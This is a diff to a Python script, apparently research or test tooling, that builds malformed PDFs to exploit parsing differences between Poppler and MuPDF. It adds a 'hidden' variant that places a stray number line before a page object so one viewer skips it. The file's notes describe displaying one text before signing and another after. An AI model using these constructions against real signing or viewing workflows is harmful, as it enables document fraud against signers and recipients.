@@ -58,7 +58,9 @@ attacker's reading, 2026-12-03: "pay 100 VND" shown before signing, another text
                                                  nul, split, endobj-line (a header only Poppler's
                                                  rebuild reads: a NUL, a 255-byte split, after
                                                  `endobj`), wrap20 (a 20-digit number MuPDF
-                                                 wraps to 3), typeless (a node without /Type
+                                                 wraps to 3), hidden (a line `12` before page
+                                                 1's header, which Poppler's rebuild then does
+                                                 not see), typeless (a node without /Type
                                                  holding a /MediaBox: a page to MuPDF),
                                                  offws (an honest file whose table points one
                                                  byte before a header)
@@ -371,7 +373,8 @@ elif mode == 'gap':
     injected = {'objx': b'3 0 objx', 'nul': b'3\x00junk\n0 objx', 'split': b' ' * 254 + b'30 objx',
                 'endobj-line': b'x endobj 3 0 objx'}
     wrapped = {'wrap': b'4294967299 0 obj', 'wrap20': b'18446744073709551619 0 %c\nobj'}
-    trigger = b' /OCProperties 16 0 R' if variant in ('wrap', 'wrap20', *injected) else b''
+    trigger = (b' /OCProperties 16 0 R' if variant in ('wrap', 'wrap20', 'hidden', *injected)
+               else b'')
     put(1, b'<< /Type /Catalog /Pages 2 0 R%s >>' % trigger)
     if variant in ('midcount', 'typeless'):
         put(2, b'<< /Type /Pages /Kids [6 0 R 7 0 R] /Count 3 >>')
@@ -394,6 +397,8 @@ elif mode == 'gap':
             put(4, page(2, 10))
     else:
         put(2, b'<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 1 >>')
+        if variant == 'hidden':
+            b.extend(b'12\n')  # a line holding a number: Poppler reads the next as its rest
         put(3, page(2, 11))
         if variant in wrapped:
             b.extend(b'%s\n%s\nendobj\n' % (wrapped[variant], page(2, 10)))
